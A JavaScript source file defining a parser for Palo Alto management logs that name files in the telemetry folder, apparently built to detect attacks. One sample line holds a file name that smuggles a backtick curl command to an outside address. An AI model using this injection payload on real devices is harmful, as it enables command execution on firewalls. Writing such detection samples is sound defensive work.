import { lineFormat, openLine } from './shared/lined.js';
import { isoTime } from './shared/time.js';

const FOLDER = '/opt/panlogs/tmp/device_telemetry/';
/** A file of the telemetry folder; attackers put whole commands into its name. */
const FILE = /\/opt\/panlogs\/tmp\/device_telemetry\/[^\s,;"]{0,1024}/;
const TIME = /^\[?(\d{4}-\d\d-\d\d[T ]\d\d:\d\d:\d\d(?:[.,]\d{1,9})?(?:Z|[+-]\d\d:?\d\d)?)/;

/** What attackers write for a blank, which a file's name cannot have. */
const BLANK = '{IFS}';

export default lineFormat({
  name: 'panlogs',
  summary: 'Palo Alto management logs that name files of the telemetry folder (device_telemetry_send.log)',
  priority: 43,
  taxonomy: 'firewall',
  accepts: (line) => line.includes(FOLDER),
  read(line, received, kinds) {
    const { time, host, message } = openLine(line, received);
    const own = TIME.exec(message)?.[1];
    return {
      kind: kinds.named('telemetry'),
      fields: { message, TargetFilename: FILE.exec(message)?.[0], ...(host !== undefined && { hostname: host }) },
      time: own === undefined ? (time ?? received) : isoTime(own),
    };
  },
  samples: [
    {
      line: `2026-03-04 08:00:00,123 dt INFO send file: /opt/panlogs/tmp/device_telemetry/minute/aaa\`curl$${BLANK}198.51.100.9\``,
      logsource: { product: 'paloalto', service: 'globalprotect', category: 'file_event' },
      ecs: {
        '@timestamp': '2026-03-04T08:00:00.123Z',
        'file.path': `/opt/panlogs/tmp/device_telemetry/minute/aaa\`curl$${BLANK}198.51.100.9\``,
      },
    },
    {
      line: '<14>Mar  4 08:00:01 pa-1 dt_send[99]: TX_DIR: send file dir: /opt/panlogs/tmp/device_telemetry/day/, n_files: 1',
      logsource: { product: 'paloalto', service: 'globalprotect', category: 'appliance' },
      ecs: { 'host.name': 'pa-1', 'file.path': '/opt/panlogs/tmp/device_telemetry/day/' },
    },
    {
      line: '2026-03-04T08:00:02Z created /opt/panlogs/tmp/device_telemetry/hour/x_base64',
      logsource: { product: 'paloalto', service: 'globalprotect', category: 'file_event' },
      ecs: { '@timestamp': '2026-03-04T08:00:02.000Z' },
    },
    {
      line: '[2026-03-04 08:00:03] removed /opt/panlogs/tmp/device_telemetry/hour/y',
      logsource: { product: 'paloalto', service: 'globalprotect', category: 'file_event' },
      ecs: { 'file.path': '/opt/panlogs/tmp/device_telemetry/hour/y' },
    },
  ],
});
